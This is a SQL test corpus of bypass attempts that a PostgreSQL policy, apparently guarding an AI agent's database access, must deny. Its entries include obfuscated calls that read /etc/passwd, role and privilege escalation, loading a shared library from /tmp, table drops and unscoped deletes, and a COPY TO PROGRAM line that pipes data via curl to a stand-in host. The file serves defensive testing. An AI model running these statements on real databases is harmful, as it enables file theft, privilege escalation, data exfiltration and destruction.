-- Bypass attempts: every entry must be denied by examples/rules/agents.yaml (SQLSTATE 42501).
-- Format: entries separated by a line "-- ----". Each entry starts with "-- expect: <fact>" and
-- "-- name: <short-name>"; the rest is the SQL text, sent as one simple Query message.
-- Facts: kind:<statement kind> | function:<name> | no_where:<update|delete> | parse_error
-- ----
-- expect: function:pg_read_file
-- name: plain-call
SELECT pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: upper-case
SELECT PG_READ_FILE('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: mixed-case
sElEcT Pg_ReAd_FiLe('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: quoted-identifier
SELECT "pg_read_file"('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: quoted-upper-identifier
SELECT "PG_READ_FILE"('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: schema-qualified
SELECT pg_catalog.pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: quoted-schema-qualified
SELECT "pg_catalog"."pg_read_file"('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: spaced-qualification
SELECT pg_catalog . pg_read_file ( '/etc/passwd' );
-- ----
-- expect: function:pg_read_file
-- name: comments-as-whitespace
SELECT/**/pg_read_file/**/('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: nested-comment
SELECT /* outer /* inner */ still a comment ) */ pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: line-comment-then-newline
SELECT 1 -- harmless
, pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: newlines-everywhere
SELECT
pg_read_file
(
'/etc/passwd'
)
;
-- ----
-- expect: function:pg_read_file
-- name: unicode-escaped-identifier
SELECT U&"\0070g_read_file"('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: unicode-escaped-identifier-uescape
SELECT U&"!0070g!005fread!005ffile" UESCAPE '!' ('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: escape-string-argument
SELECT pg_read_file(E'\x2fetc\x2fpasswd');
-- ----
-- expect: function:pg_read_file
-- name: dollar-quoted-argument
SELECT pg_read_file($$/etc/passwd$$);
-- ----
-- expect: function:pg_read_file
-- name: tagged-dollar-quoted-argument
SELECT pg_read_file($path$/etc/passwd$path$);
-- ----
-- expect: function:pg_read_file
-- name: second-statement
SELECT 1; SELECT pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: from-table-function
SELECT * FROM pg_read_file('/etc/passwd') AS f(content);
-- ----
-- expect: function:pg_ls_dir
-- name: rows-from
SELECT * FROM ROWS FROM (pg_ls_dir('.')) AS t(name);
-- ----
-- expect: function:pg_read_file
-- name: values-in-from
SELECT x FROM (VALUES (pg_read_file('/etc/passwd'))) AS v(x);
-- ----
-- expect: function:pg_read_file
-- name: bare-values
VALUES (pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: where-clause
SELECT 1 WHERE pg_read_file('/etc/passwd') IS NOT NULL;
-- ----
-- expect: function:pg_read_file
-- name: order-by
SELECT relname FROM pg_class ORDER BY pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: group-by
SELECT count(*) FROM pg_class GROUP BY pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: having
SELECT 1 HAVING pg_read_file('/etc/passwd') <> '';
-- ----
-- expect: function:pg_read_file
-- name: lateral-subquery
SELECT * FROM pg_class c, LATERAL (SELECT pg_read_file('/etc/passwd')) AS l;
-- ----
-- expect: function:pg_ls_dir
-- name: lateral-function
SELECT * FROM pg_class c CROSS JOIN LATERAL pg_ls_dir('.') AS d;
-- ----
-- expect: function:pg_read_file
-- name: join-condition
SELECT 1 FROM pg_class JOIN pg_namespace ON pg_read_file('/etc/passwd') IS NOT NULL;
-- ----
-- expect: function:pg_read_file
-- name: case-expression
SELECT CASE WHEN true THEN pg_read_file('/etc/passwd') ELSE 'x' END;
-- ----
-- expect: function:pg_read_file
-- name: coalesce-argument
SELECT coalesce(NULL, pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: scalar-subquery
SELECT (SELECT pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_ls_dir
-- name: exists-subquery
SELECT EXISTS (SELECT pg_ls_dir('/'));
-- ----
-- expect: function:pg_read_file
-- name: in-subquery
SELECT 1 IN (SELECT length(pg_read_file('/etc/passwd')));
-- ----
-- expect: function:pg_read_file
-- name: any-subquery
SELECT * FROM generate_series(1, 1) AS g WHERE g = ANY (SELECT length(pg_read_file('/etc/passwd')));
-- ----
-- expect: function:pg_read_file
-- name: array-constructor
SELECT ARRAY[pg_read_file('/etc/passwd')];
-- ----
-- expect: function:pg_read_file
-- name: row-constructor
SELECT ROW(pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: nested-calls
SELECT length(upper(lower(pg_read_file('/etc/passwd'))));
-- ----
-- expect: function:pg_read_file
-- name: window-partition
SELECT count(*) OVER (PARTITION BY pg_read_file('/etc/passwd')) FROM pg_class;
-- ----
-- expect: function:pg_read_file
-- name: aggregate-order-by
SELECT string_agg(x, ',' ORDER BY pg_read_file('/etc/passwd')) FROM (VALUES ('a')) AS v(x);
-- ----
-- expect: function:pg_read_file
-- name: aggregate-filter
SELECT count(*) FILTER (WHERE pg_read_file('/etc/passwd') <> '') FROM pg_class;
-- ----
-- expect: function:pg_read_file
-- name: cte
WITH f AS (SELECT pg_read_file('/etc/passwd') AS c) SELECT * FROM f;
-- ----
-- expect: function:pg_read_file
-- name: nested-cte
WITH a AS (WITH b AS (SELECT pg_read_file('/etc/passwd') AS c) SELECT c FROM b) SELECT * FROM a;
-- ----
-- expect: function:pg_read_file
-- name: union-branch
SELECT 1 UNION SELECT length(pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: limit-expression
SELECT relname FROM pg_class LIMIT length(pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: cast-chain
SELECT pg_read_file('/etc/passwd')::text::varchar;
-- ----
-- expect: function:pg_read_file
-- name: cast-syntax
SELECT CAST(pg_read_file('/etc/passwd') AS text);
-- ----
-- expect: function:pg_read_file
-- name: concatenation
SELECT 'x' || pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: collate
SELECT pg_read_file('/etc/passwd') COLLATE "C";
-- ----
-- expect: function:pg_read_file
-- name: distinct-on
SELECT DISTINCT ON (pg_read_file('/etc/passwd')) 1;
-- ----
-- expect: function:pg_read_file
-- name: tablesample-argument
SELECT 1 FROM pg_class TABLESAMPLE SYSTEM (length(pg_read_file('/etc/passwd')));
-- ----
-- expect: function:pg_read_file
-- name: xmlelement-argument
SELECT xmlelement(name x, pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: json-argument
SELECT json_build_object('a', pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: functional-notation
SELECT ('/etc/passwd'::text).pg_read_file;
-- ----
-- expect: function:pg_read_file
-- name: functional-notation-subquery
SELECT ((SELECT '/etc/passwd'::text)).pg_read_file;
-- ----
-- expect: function:pg_cancel_backend
-- name: functional-notation-integer
SELECT (42).pg_cancel_backend;
-- ----
-- expect: function:pg_read_file
-- name: read-file-with-offset
SELECT pg_read_file('/etc/passwd', 0, 100, true);
-- ----
-- expect: function:pg_read_binary_file
-- name: read-binary-file
SELECT pg_read_binary_file('/etc/passwd');
-- ----
-- expect: function:pg_ls_dir
-- name: list-directory
SELECT pg_ls_dir('/');
-- ----
-- expect: function:pg_stat_file
-- name: stat-file
SELECT pg_stat_file('/etc/passwd');
-- ----
-- expect: function:lo_import
-- name: large-object-import
SELECT lo_import('/etc/passwd');
-- ----
-- expect: function:lo_export
-- name: large-object-export
SELECT lo_export(1234, '/tmp/exported');
-- ----
-- expect: function:pg_terminate_backend
-- name: terminate-backends
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();
-- ----
-- expect: function:pg_cancel_backend
-- name: cancel-backend
SELECT pg_catalog.pg_cancel_backend(pg_backend_pid());
-- ----
-- expect: function:dblink_connect
-- name: dblink-connect
SELECT dblink_connect('host=localhost dbname=postgres');
-- ----
-- expect: function:dblink
-- name: dblink-query
SELECT * FROM dblink('dbname=postgres', 'DELETE FROM accounts') AS t(x text);
-- ----
-- expect: function:dblink_exec
-- name: dblink-exec
SELECT dblink_exec('dbname=postgres', 'DROP TABLE accounts');
-- ----
-- expect: function:set_config
-- name: set-config-role
SELECT set_config('role', 'postgres', false);
-- ----
-- expect: function:set_config
-- name: set-config-session-authorization
SELECT pg_catalog.set_config('session_authorization', 'postgres', false);
-- ----
-- expect: function:pg_reload_conf
-- name: reload-conf
SELECT pg_reload_conf();
-- ----
-- expect: function:pg_rotate_logfile
-- name: rotate-logfile
SELECT pg_rotate_logfile();
-- ----
-- expect: function:pg_promote
-- name: promote
SELECT pg_promote();
-- ----
-- expect: function:pg_read_file
-- name: query-to-xml-literal
SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '');
-- ----
-- expect: no_where:delete
-- name: query-to-xml-delete
SELECT query_to_xml('DELETE FROM accounts RETURNING 1', true, true, '');
-- ----
-- expect: parse_error
-- name: query-to-xml-dynamic
SELECT query_to_xml('SELECT pg_read' || '_file(''/etc/passwd'')', true, true, '');
-- ----
-- expect: function:pg_ls_dir
-- name: query-to-xml-named-argument
SELECT query_to_xml(tableforest => true, nulls => true, targetns => '', query => 'SELECT pg_ls_dir(''/'')');
-- ----
-- expect: function:pg_read_file
-- name: ts-stat-query
SELECT * FROM ts_stat('SELECT to_tsvector(pg_read_file(''/etc/passwd''))');
-- ----
-- expect: function:pg_read_file
-- name: insert-values
INSERT INTO accounts (note) VALUES (pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: insert-select
INSERT INTO accounts (note) SELECT pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: on-conflict-update
INSERT INTO accounts (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET note = pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: returning
INSERT INTO accounts (id) VALUES (1) RETURNING pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: update-set
UPDATE accounts SET note = pg_read_file('/etc/passwd') WHERE id = 1;
-- ----
-- expect: function:pg_ls_dir
-- name: delete-returning
DELETE FROM accounts WHERE id = 1 RETURNING pg_ls_dir('/');
-- ----
-- expect: function:pg_read_file
-- name: prepare-body
PREPARE p1 AS SELECT pg_read_file($1);
-- ----
-- expect: function:pg_read_file
-- name: execute-argument
EXECUTE p1(pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_read_file
-- name: explain-analyze-select
EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd');
-- ----
-- expect: function:pg_read_file
-- name: declare-cursor
BEGIN; DECLARE c1 CURSOR FOR SELECT pg_read_file('/etc/passwd'); FETCH ALL FROM c1; COMMIT;
-- ----
-- expect: function:pg_read_file
-- name: copy-query
COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT;
-- ----
-- expect: kind:set_role
-- name: set-role
SET ROLE postgres;
-- ----
-- expect: kind:set_role
-- name: set-role-to-string
set role to 'postgres';
-- ----
-- expect: kind:set_role
-- name: set-local-role
BEGIN; SET LOCAL ROLE postgres; SELECT 1; COMMIT;
-- ----
-- expect: kind:set_role
-- name: set-session-role
SET SESSION ROLE postgres;
-- ----
-- expect: kind:set_role
-- name: set-role-generic-syntax
SET "role" = 'postgres';
-- ----
-- expect: kind:set_role
-- name: set-role-quoted-upper
SET "ROLE" TO postgres;
-- ----
-- expect: kind:set_role
-- name: set-session-authorization
SET SESSION AUTHORIZATION postgres;
-- ----
-- expect: kind:set_role
-- name: set-session-authorization-generic
SET session_authorization = 'postgres';
-- ----
-- expect: kind:set_role
-- name: set-session-authorization-default
SET SESSION AUTHORIZATION DEFAULT;
-- ----
-- expect: kind:role
-- name: alter-role-superuser
ALTER ROLE agent SUPERUSER;
-- ----
-- expect: kind:role
-- name: alter-user-password
ALTER USER agent WITH PASSWORD 'hunter2';
-- ----
-- expect: kind:role
-- name: create-role
CREATE ROLE evil LOGIN SUPERUSER PASSWORD 'x';
-- ----
-- expect: kind:role
-- name: create-user
CREATE USER evil;
-- ----
-- expect: kind:role
-- name: create-group
CREATE GROUP evil_group;
-- ----
-- expect: kind:role
-- name: drop-role
DROP ROLE IF EXISTS evil;
-- ----
-- expect: kind:role
-- name: drop-user
DROP USER evil;
-- ----
-- expect: kind:role
-- name: alter-group-add-user
ALTER GROUP pg_read_server_files ADD USER agent;
-- ----
-- expect: kind:role
-- name: alter-role-set-role
ALTER ROLE agent SET role = 'postgres';
-- ----
-- expect: kind:role
-- name: rename-role
ALTER ROLE agent RENAME TO admin;
-- ----
-- expect: kind:grant
-- name: grant-role
GRANT postgres TO agent;
-- ----
-- expect: kind:grant
-- name: grant-server-files-role
GRANT pg_read_server_files, pg_execute_server_program TO agent;
-- ----
-- expect: kind:grant
-- name: grant-all-tables
GRANT ALL ON ALL TABLES IN SCHEMA public TO agent;
-- ----
-- expect: kind:revoke
-- name: revoke-select
REVOKE SELECT ON accounts FROM PUBLIC;
-- ----
-- expect: kind:revoke
-- name: revoke-role
REVOKE pg_monitor FROM agent;
-- ----
-- expect: kind:grant
-- name: alter-default-privileges
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO agent;
-- ----
-- expect: kind:alter_system
-- name: alter-system-preload
ALTER SYSTEM SET shared_preload_libraries = 'evil';
-- ----
-- expect: kind:alter_system
-- name: alter-system-reset-all
ALTER SYSTEM RESET ALL;
-- ----
-- expect: kind:alter_system
-- name: alter-system-lowercase
alter system set log_statement = none;
-- ----
-- expect: kind:load
-- name: load-library
LOAD 'auto_explain';
-- ----
-- expect: kind:load
-- name: load-path
SELECT 1; LOAD '/tmp/evil.so';
-- ----
-- expect: kind:do
-- name: do-block
DO $$BEGIN PERFORM pg_sleep(0); END$$;
-- ----
-- expect: kind:do
-- name: do-language-string
DO LANGUAGE plpgsql 'BEGIN NULL; END';
-- ----
-- expect: kind:do
-- name: do-dynamic-execute
do $x$ begin execute 'drop table accounts'; end $x$;
-- ----
-- expect: kind:call
-- name: call-procedure
CALL my_procedure();
-- ----
-- expect: kind:call
-- name: call-qualified-procedure
CALL public.my_procedure(1, 'two');
-- ----
-- expect: kind:create
-- name: create-function-sql
CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$;
-- ----
-- expect: kind:create
-- name: create-function-return
CREATE OR REPLACE FUNCTION one() RETURNS int LANGUAGE sql RETURN 1;
-- ----
-- expect: no_where:delete
-- name: create-function-atomic-body
CREATE FUNCTION wipe() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM accounts; SELECT 1; END;
-- ----
-- expect: kind:create
-- name: create-procedure
CREATE PROCEDURE wipe() LANGUAGE sql AS $$ DELETE FROM accounts $$;
-- ----
-- expect: kind:create
-- name: create-c-function
CREATE FUNCTION evil() RETURNS void LANGUAGE c AS '/tmp/evil.so', 'evil';
-- ----
-- expect: kind:create
-- name: create-table
CREATE TABLE scratch (a int);
-- ----
-- expect: kind:create
-- name: create-temp-table
CREATE TEMP TABLE scratch (a int);
-- ----
-- expect: function:pg_read_file
-- name: create-table-default
CREATE TABLE scratch (a text DEFAULT pg_read_file('/etc/passwd'));
-- ----
-- expect: function:pg_ls_dir
-- name: create-table-check
CREATE TABLE scratch (a text CHECK (pg_ls_dir('.') IS NOT NULL));
-- ----
-- expect: function:pg_read_file
-- name: create-index-expression
CREATE INDEX ON accounts ((pg_read_file('/etc/passwd')));
-- ----
-- expect: kind:create
-- name: create-view
CREATE VIEW v AS SELECT 1 AS a;
-- ----
-- expect: kind:create
-- name: create-materialized-view
CREATE MATERIALIZED VIEW mv AS SELECT 1 AS a;
-- ----
-- expect: kind:create
-- name: create-schema-with-elements
CREATE SCHEMA evil CREATE TABLE t (a int) CREATE VIEW v AS SELECT 1;
-- ----
-- expect: kind:create
-- name: create-extension
CREATE EXTENSION IF NOT EXISTS dblink;
-- ----
-- expect: kind:create
-- name: create-trigger
CREATE TRIGGER tr AFTER INSERT ON accounts FOR EACH ROW EXECUTE FUNCTION evil();
-- ----
-- expect: no_where:delete
-- name: create-rule-delete
CREATE RULE r AS ON INSERT TO accounts DO INSTEAD DELETE FROM accounts;
-- ----
-- expect: kind:create
-- name: create-sequence
CREATE SEQUENCE s;
-- ----
-- expect: kind:create
-- name: create-type
CREATE TYPE pair AS (a int, b int);
-- ----
-- expect: kind:create
-- name: create-server
CREATE SERVER loopback FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'localhost');
-- ----
-- expect: kind:create
-- name: create-user-mapping
CREATE USER MAPPING FOR agent SERVER loopback OPTIONS (user 'postgres', password 'secret');
-- ----
-- expect: kind:create
-- name: create-policy
CREATE POLICY p ON accounts USING (true);
-- ----
-- expect: kind:create
-- name: create-publication
CREATE PUBLICATION pub FOR ALL TABLES;
-- ----
-- expect: kind:create
-- name: create-database
CREATE DATABASE evil;
-- ----
-- expect: kind:create
-- name: create-language
CREATE LANGUAGE plperlu;
-- ----
-- expect: kind:create
-- name: select-into
SELECT * INTO stolen FROM pg_class;
-- ----
-- expect: kind:create
-- name: select-into-temp
SELECT 1 AS a INTO TEMP scratch;
-- ----
-- expect: kind:create
-- name: create-table-as
CREATE TABLE stolen AS SELECT * FROM pg_class;
-- ----
-- expect: kind:create
-- name: create-table-as-execute
CREATE TABLE stolen AS EXECUTE p1;
-- ----
-- expect: kind:create
-- name: explain-analyze-create-table-as
EXPLAIN ANALYZE CREATE TABLE stolen AS SELECT 1;
-- ----
-- expect: kind:alter
-- name: alter-table-add-column
ALTER TABLE accounts ADD COLUMN b int;
-- ----
-- expect: kind:alter
-- name: alter-table-owner
ALTER TABLE accounts OWNER TO agent;
-- ----
-- expect: kind:alter
-- name: alter-table-rename
ALTER TABLE accounts RENAME TO old_accounts;
-- ----
-- expect: function:pg_read_file
-- name: alter-column-default
ALTER TABLE accounts ALTER COLUMN note SET DEFAULT pg_read_file('/etc/passwd');
-- ----
-- expect: kind:alter
-- name: disable-triggers
ALTER TABLE accounts DISABLE TRIGGER ALL;
-- ----
-- expect: kind:alter
-- name: disable-row-security
ALTER TABLE accounts DISABLE ROW LEVEL SECURITY;
-- ----
-- expect: kind:alter
-- name: alter-function-security-definer
ALTER FUNCTION leak() SECURITY DEFINER;
-- ----
-- expect: kind:alter
-- name: alter-database-set
ALTER DATABASE postgres SET search_path = evil;
-- ----
-- expect: kind:alter
-- name: alter-schema-owner
ALTER SCHEMA public OWNER TO agent;
-- ----
-- expect: kind:drop
-- name: drop-table
DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-table-if-exists-cascade
DROP TABLE IF EXISTS accounts CASCADE;
-- ----
-- expect: kind:drop
-- name: drop-schema
DROP SCHEMA public CASCADE;
-- ----
-- expect: kind:drop
-- name: drop-database
DROP DATABASE postgres;
-- ----
-- expect: kind:drop
-- name: drop-function
DROP FUNCTION IF EXISTS leak();
-- ----
-- expect: kind:drop
-- name: drop-owned
DROP OWNED BY agent;
-- ----
-- expect: kind:truncate
-- name: truncate
TRUNCATE accounts;
-- ----
-- expect: kind:truncate
-- name: truncate-only
TRUNCATE ONLY accounts;
-- ----
-- expect: kind:truncate
-- name: truncate-table-cascade
TRUNCATE TABLE accounts, sessions RESTART IDENTITY CASCADE;
-- ----
-- expect: kind:truncate
-- name: truncate-in-transaction
BEGIN; TRUNCATE accounts; COMMIT;
-- ----
-- expect: kind:drop
-- name: drop-after-select
SELECT 1; DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-line-comment
SELECT 1 -- comment ends at the newline
; DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-block-comment
/* SELECT 1 */ DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-nested-comment
SELECT 1 /* /* nested */ still comment */; DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-dash-literal
SELECT '--'; DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-dollar-quote
SELECT $tag$ $$ ; $tag$; DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-semicolon-literal
SELECT ';'; DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-with-comment-whitespace
select 1;/**/drop/**/table/**/accounts;
-- ----
-- expect: kind:drop
-- name: drop-mixed-case
SeLeCt 1; dRoP tAbLe accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-unicode-quote-literal
SELECT U&'\0027'; DROP TABLE accounts;
-- ----
-- expect: kind:drop
-- name: drop-after-escaped-backslash
SELECT E'\\'; DROP TABLE accounts; --';
-- ----
-- expect: parse_error
-- name: drop-after-standard-backslash
SELECT '\'; DROP TABLE accounts; --';
-- ----
-- expect: kind:drop
-- name: drop-in-transaction
BEGIN; DROP TABLE accounts; ROLLBACK;
-- ----
-- expect: kind:create
-- name: create-in-start-transaction
START TRANSACTION; CREATE TABLE scratch (); COMMIT;
-- ----
-- expect: kind:truncate
-- name: truncate-in-savepoint
BEGIN; SAVEPOINT s; TRUNCATE accounts; RELEASE s; COMMIT;
-- ----
-- expect: no_where:delete
-- name: delete-all
DELETE FROM accounts;
-- ----
-- expect: no_where:delete
-- name: delete-where-commented-out
delete from accounts -- where id = 1
;
-- ----
-- expect: no_where:delete
-- name: delete-where-in-block-comment
DELETE FROM accounts /* WHERE id = 1 */;
-- ----
-- expect: no_where:update
-- name: update-all
UPDATE accounts SET balance = 0;
-- ----
-- expect: no_where:update
-- name: update-where-only-in-subselect
UPDATE accounts SET balance = (SELECT balance FROM accounts WHERE id = 1);
-- ----
-- expect: no_where:delete
-- name: delete-where-true
DELETE FROM accounts WHERE true;
-- ----
-- expect: no_where:delete
-- name: delete-where-tautology
DELETE FROM accounts WHERE 1 = 1;
-- ----
-- expect: no_where:update
-- name: update-where-constant-comparison
UPDATE accounts SET balance = 0 WHERE 'x' = 'x';
-- ----
-- expect: no_where:delete
-- name: delete-only
DELETE FROM ONLY accounts;
-- ----
-- expect: no_where:delete
-- name: delete-using
DELETE FROM accounts USING sessions;
-- ----
-- expect: no_where:update
-- name: update-from
UPDATE accounts SET balance = 0 FROM sessions;
-- ----
-- expect: no_where:delete
-- name: data-modifying-cte
WITH d AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM d;
-- ----
-- expect: no_where:update
-- name: data-modifying-cte-update
WITH u AS (UPDATE accounts SET balance = 0 RETURNING *) SELECT * FROM u;
-- ----
-- expect: no_where:delete
-- name: second-cte-modifies
WITH a AS (SELECT 1), d AS (DELETE FROM accounts RETURNING 1) SELECT * FROM a;
-- ----
-- expect: no_where:delete
-- name: nested-cte-modifies
WITH o AS (WITH i AS (DELETE FROM accounts RETURNING *) SELECT * FROM i) SELECT * FROM o;
-- ----
-- expect: no_where:delete
-- name: cte-feeding-insert
WITH d AS (DELETE FROM accounts RETURNING *) INSERT INTO archive SELECT * FROM d;
-- ----
-- expect: no_where:delete
-- name: explain-analyze-delete
EXPLAIN ANALYZE DELETE FROM accounts;
-- ----
-- expect: no_where:update
-- name: explain-analyze-options-update
EXPLAIN (ANALYZE, BUFFERS) UPDATE accounts SET balance = 0;
-- ----
-- expect: no_where:delete
-- name: explain-analyze-true
EXPLAIN (ANALYZE true) DELETE FROM accounts;
-- ----
-- expect: no_where:delete
-- name: explain-analyze-on
EXPLAIN (ANALYZE on, COSTS off) DELETE FROM accounts;
-- ----
-- expect: no_where:delete
-- name: explain-analyze-one
EXPLAIN (ANALYZE 1) DELETE FROM accounts;
-- ----
-- expect: no_where:delete
-- name: prepare-delete
PREPARE wipe AS DELETE FROM accounts;
-- ----
-- expect: no_where:update
-- name: prepare-update-parameter
PREPARE zero AS UPDATE accounts SET balance = $1;
-- ----
-- expect: no_where:delete
-- name: copy-delete-returning
COPY (DELETE FROM accounts RETURNING *) TO STDOUT;
-- ----
-- expect: no_where:update
-- name: copy-update-returning
COPY (UPDATE accounts SET balance = 0 RETURNING *) TO STDOUT;
-- ----
-- expect: no_where:delete
-- name: delete-in-transaction
BEGIN; DELETE FROM accounts; COMMIT;
-- ----
-- expect: no_where:update
-- name: update-after-select
select 1; update accounts set balance = 2;
-- ----
-- expect: kind:copy_file
-- name: copy-to-file
COPY accounts TO '/tmp/accounts.csv';
-- ----
-- expect: kind:copy_file
-- name: copy-from-file
COPY accounts FROM '/etc/passwd';
-- ----
-- expect: kind:copy_program
-- name: copy-from-program
COPY accounts FROM PROGRAM 'id';
-- ----
-- expect: kind:copy_program
-- name: copy-to-program
COPY accounts TO PROGRAM 'curl -d @- http://example.invalid';
-- ----
-- expect: kind:copy_program
-- name: copy-query-to-program
COPY (SELECT 1) TO PROGRAM 'sh -c id';
-- ----
-- expect: kind:copy_program
-- name: copy-program-dollar-quoted
copy accounts from program $$id$$;
-- ----
-- expect: kind:copy_file
-- name: copy-columns-from-file-options
COPY accounts (note) FROM '/etc/passwd' WITH (FORMAT text);
-- ----
-- expect: kind:copy_file
-- name: copy-authid-to-file
COPY (SELECT * FROM pg_authid) TO '/tmp/authid';
-- ----
-- expect: parse_error
-- name: unterminated-call
SELECT pg_read_file('/etc/passwd'
-- ----
-- expect: parse_error
-- name: misspelled-keyword
SELEC 1;
-- ----
-- expect: parse_error
-- name: unterminated-string
SELECT 'unterminated;
-- ----
-- expect: parse_error
-- name: unterminated-dollar-quote
SELECT $$ never closed;
-- ----
-- expect: parse_error
-- name: unterminated-comment
SELECT 1 /* never closed
-- ----
-- expect: parse_error
-- name: replication-command
IDENTIFY_SYSTEM;
-- ----
-- expect: parse_error
-- name: broken-second-statement
SELECT 1; SELEC 2;
-- ----
-- expect: parse_error
-- name: standard-conforming-strings-off
SET standard_conforming_strings = off;
-- ----
-- expect: parse_error
-- name: standard-conforming-strings-zero
SET SESSION standard_conforming_strings TO 0;
-- ----
-- expect: parse_error
-- name: client-encoding-gbk
SET client_encoding TO 'GBK';
-- ----
-- expect: parse_error
-- name: set-names-sjis
SET NAMES 'SJIS';
-- ----
-- expect: parse_error
-- name: update-pg-settings-lexer-setting
UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings';
-- ----
-- expect: parse_error
-- name: update-pg-catalog-pg-settings-encoding
UPDATE pg_catalog.pg_settings SET setting = 'SJIS' WHERE name = 'client_encoding';
-- ----
-- expect: parse_error
-- name: literal-read-differently-without-standard-conforming-strings
SELECT '\', $$'; DROP TABLE accounts; -- $$;
-- ----
-- expect: parse_error
-- name: nested-sql-read-differently-without-standard-conforming-strings
SELECT query_to_xml('select ssn from "peo\ple"', true, false, '');
-- ----
-- expect: parse_error
-- name: backslash-swallowed-by-a-client-only-encoding
SELECT E'Á\'; DROP TABLE accounts; --';
-- ----
-- expect: parse_error
-- name: set-config-lexer-setting
SELECT set_config('standard_conforming_strings', 'off', false);
-- ----
-- expect: parse_error
-- name: set-config-computed-name
SELECT set_config(current_setting('application_name'), 'postgres', false);
